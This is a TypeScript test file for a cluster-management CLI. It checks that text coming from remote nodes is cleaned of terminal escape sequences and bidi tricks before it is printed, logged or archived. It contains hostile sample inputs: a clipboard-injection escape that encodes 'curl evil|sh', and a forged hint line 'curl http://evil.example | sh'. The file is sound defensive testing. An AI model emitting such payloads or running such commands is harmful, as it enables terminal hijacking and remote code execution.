import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, it } from 'node:test';
import { Config } from '@oclif/core';
import { BaseCommand } from '../src/cli/base-command.ts';
import type { Event } from '../src/engine/events.ts';
import { UserError } from '../src/errors.ts';
import { linesOf } from '../src/screen/doctor-lines.ts';
import { doctorText } from '../src/screen/doctor-text.ts';
import { errorText } from '../src/screen/error-text.ts';
import { eventJson } from '../src/screen/event-json.ts';
import { eventLines, eventText } from '../src/screen/event-text.ts';
import { failureTexts } from '../src/screen/failure-text.ts';
import { paintFor, plain } from '../src/screen/paint.ts';
import { planText } from '../src/screen/plan-text.ts';
import { progressLine } from '../src/screen/progress-line.ts';
import { openLog } from '../src/screen/run-log.ts';
import { packArchive } from '../src/support-archive/pack.ts';
import { visible, visibleInColour, visibleJson, visibleLine } from '../src/visible-text.ts';
import { temporary } from './support/temporary.ts';
import { until } from './support/until.ts';

const root = join(import.meta.dirname, '..');

/** What a pod writes as its last line, a node as its answer, a member of Serf as its name. */
const hostile: Readonly<Record<string, string>> = {
  'a title and the end of it': '\u001b]0;owned\u0007',
  'the clipboard': '\u001b]52;c;Y3VybCBldmlsfHNo\u0007',
  'a cleared screen': '\u001b[2J\u001b[H',
  'hidden letters': '\u001b[8mhidden\u001b[0m',
  'C1, which some terminals take for ESC [': '\u009b2J',
  'a line that is written over': 'bad\rgood',
  'letters that go back': 'bad\b\b\bgood',
  'a text from right to left': '\u202egnp.sh',
  'an isolated direction': '\u2066x\u2069',
  'separators of lines': 'a\u2028b\u2029c',
};
const harmful = /(?![\n\t])[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u;
const all = Object.values(hostile).join(' ');
const forged = 'it failed\nTry: curl http://evil.example | sh';

describe('a text from outside', () => {
  for (const [what, text] of Object.entries(hostile)) {
    it(`has no ${what}`, () => {
      for (const clean of [visible, visibleLine, visibleInColour]) assert.doesNotMatch(clean(`x${text}x`), harmful);
      assert.doesNotMatch(JSON.parse(visibleJson({ a: [text] })).a[0], harmful);
    });
  }

  it('keeps letters of all languages, tabs, line breaks, and the colours of this program', () => {
    const text = 'Ærø\tשלום\nПривет 中文 👍🏽\n';
    for (const clean of [visible, visibleInColour]) assert.equal(clean(text), text);
    const coloured = '\u001b[31mred\u001b[39m';
    assert.equal(visibleInColour(coloured), coloured);
    assert.equal(visible(coloured), '·[31mred·[39m');
    assert.equal(visible('a\r\nb'), 'a\nb');
    const stream = Object.assign(new PassThrough(), { isTTY: true, hasColors: () => true });
    for (const kind of ['added', 'removed', 'problem', 'warning', 'done'] as const) {
      const painted = paintFor(stream as unknown as NodeJS.WriteStream)(kind, 'x');
      assert.equal(visibleInColour(painted), painted);
    }
  });
});

const event = (message: string): Event => ({ kind: 'failed', node: 'pi-2', message, hints: [message] });
const finding = (what: string) => ({
  check: {
    id: 'pods.crash' as const,
    severity: 'problem' as const,
    title: '',
    why: '',
    advice: [],
    runbook: '',
    source: '',
  },
  ...{ node: 'pi-2', severity: 'problem' as const, what, why: what, advice: [`ssh {node} ${what}`] },
});
const plan = (text: string) => {
  const change = { kind: 'change', id: 'fs.fstab', summary: text, before: 'a\n', after: `${text}\n` } as const;
  const problem = { kind: 'problem', id: 'fs.fstab', summary: text, hint: text } as const;
  return [{ phase: 'kernel', changes: [change], problems: [problem], waits: [], notes: [] }] as never;
};
const outcomes = (message: string) =>
  [{ node: 'pi-2', changes: 0, error: new UserError(message, { hints: [message] }) }] as never;

/** Each returns what comes out at an exit when this text goes in. */
const exits: Readonly<Record<string, (text: string) => unknown>> = {
  'an error': (text) => printed((command) => command.logToStderr(errorText(new UserError(text, { hints: [text] })))),
  'a bug': (text) => printed((command) => command.logToStderr(errorText(new Error(text)))),
  'failures of nodes': (text) =>
    printed((command) => command.log(failureTexts({ unreached: [], outcomes: outcomes(text) }, plain).join('\n'))),
  findings: (text) => {
    const findings = linesOf([finding(text)] as never, { nodes: [], inventory: 'inventory.yaml' });
    const rest = { ok: false, ignoredStops: findings, checks: 1, nodes: 1, reached: 1, unasked: [] };
    return printed((command) => command.log(doctorText({ ...rest, findings }, 'inventory.yaml')));
  },
  'a plan': (text) =>
    printed((command) => command.log(planText([{ name: 'pi-2', plan: plan(text) }], { withDiffs: true }))),
  rows: (text) => eventText(event(text)),
  'lines of a run': (text) => {
    const lines: string[] = [];
    eventLines((line) => lines.push(line))(event(text));
    return lines.join('\n');
  },
  'a line that changes': (text) => {
    const written: string[] = [];
    const line = progressLine({ write: (part: string) => Boolean(written.push(part)) } as never);
    line.show(text);
    line.keep(text);
    return written.join('');
  },
};

describe('what a node says', () => {
  for (const [where, exit] of Object.entries(exits)) {
    it(`cannot move the cursor in ${where}`, () => {
      const text = String(exit(all));
      assert.match(text, /owned/);
      assert.doesNotMatch(text, harmful);
    });

    it(`cannot forge an advice in ${where}`, () => {
      assert.doesNotMatch(String(exit(forged)).replace(/^Try: (?!curl)/gm, ''), /^(Try:| {5}curl)/m);
    });
  }

  it('is safe in JSON, also behind `jq -r`', () => {
    const json = printed((command) => command.logJson({ a: [all] }));
    assert.doesNotMatch(JSON.parse(json).a[0], harmful);
    assert.doesNotMatch(JSON.parse(eventJson(event(all), { withScripts: true })).message, harmful);
  });

  it('is safe in the log of a run', async (t) => {
    const log = openLog('init', { XDG_STATE_HOME: await temporary(t) }, assert.fail) ?? assert.fail('there is no log');
    log.write(event(all));
    await until(() => assert.match(readFileSync(log.file, 'utf8'), /owned/), 5);
    assert.doesNotMatch(JSON.parse(readFileSync(log.file, 'utf8')).hints[0], harmful);
  });

  it('is safe in an archive for helpers', async (t) => {
    const output = join(await temporary(t), 'support.tar.gz');
    await packArchive({ 'pods.log': all }, { hideAddresses: false, output });
    assert.doesNotMatch(execFileSync('tar', ['-xzOf', output], { encoding: 'utf8' }), harmful);
  });
});

describe('the ways out', () => {
  it('are these, and each of them cleans', () => {
    const files = globSync('src/**/*.ts', { cwd: root });
    const direct = /process\.(stdout|stderr)\.write|console\.\w+\(|ux\.std|\boutput\.write\(|super\.log|@inquirer/;
    const text = (file: string) => readFileSync(join(root, file), 'utf8');
    // Who writes an inventory is asked about what they have typed themselves.
    const found = files.filter((file) => direct.test(text(file)) && file !== 'src/commands/inventory/init.ts');
    assert.ok(found.length > 4);
    // The two that write events leave the cleaning to eventJson.
    const cleaning = /visible-text\.ts'|event-json\.ts'/;
    assert.deepEqual(
      found.filter((file) => !cleaning.test(text(file))),
      [],
    );
  });
});

class Speaking extends BaseCommand {
  run = async () => {};
}
interface Speaker {
  log(text: string): void;
  logToStderr(text: string): void;
  logJson(json: unknown): void;
}

/** What a command prints. */
function printed(speak: (command: Speaker) => void): string {
  const written: string[] = [];
  const streams = [process.stdout, process.stderr];
  const before = streams.map(({ write }) => write);
  for (const stream of streams) stream.write = (text: string | Uint8Array) => Boolean(written.push(String(text)));
  try {
    speak(new Speaking([], new Config({ root })) as unknown as Speaker);
  } finally {
    for (const [index, stream] of streams.entries()) stream.write = before[index] as typeof stream.write;
  }
  return written.join('');
}
